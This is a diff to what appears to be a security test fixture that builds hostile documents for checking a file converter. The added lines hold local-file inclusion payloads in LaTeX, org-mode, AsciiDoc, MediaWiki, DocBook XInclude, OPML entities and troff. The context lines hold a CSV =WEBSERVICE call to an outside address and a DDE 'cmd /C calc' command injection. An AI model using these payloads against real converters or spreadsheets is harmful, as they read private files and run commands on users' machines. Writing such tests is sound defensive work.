@@ -230,6 +230,13 @@ def reach_out(path: str, address: str) -> dict[str, bytes]:
             f'--b\nContent-Type: message/external-body; access-type=local-file; name="{path}"\n\n\n--b\nContent-Type: text/html\n\n{page}\n--b--',
             "multipart/mixed; boundary=b",
         ),
+        "outside.tex": rf"text \input{{{path}}}\include{{{path}}}\verbatiminput{{{path}}}\includegraphics{{{path}}}".encode(),
+        "outside.org": f'text\n\n#+INCLUDE: "{path}"\n#+INCLUDE: "{path}" src\n[[file:{path}]]\n'.encode(),
+        "outside.adoc": f"text\n\ninclude::{path}[]\n\nimage::{address}/picture[]\n".encode(),
+        "outside.mediawiki": f"text {{{{:{path}}}}} [[File:{path}]] <include src='{path}'/>".encode(),
+        "outside.dbk": f"<book xmlns:xi='http://www.w3.org/2001/XInclude'><para>text</para><xi:include parse='text' href='{path}'/></book>".encode(),
+        "entity.opml": f"{entity}<opml><body><outline text='text &f; &u;'/></body></opml>".encode(),
+        "outside.man": f".TH A 1\n.SH text\n.so {path}\n.PSPIC {path}\n.mso {path}\n".encode(),
         "outside.csv": f'a,b\n"=WEBSERVICE(""{address}/cell"")",1\n"=cmd|\' /C calc\'!A0",2\n'.encode(),
         "outside.pdf": pdf_page(b"BT /F 9 Tf 10 10 Td (text) Tj ET").replace(
             b"/Type /Catalog",
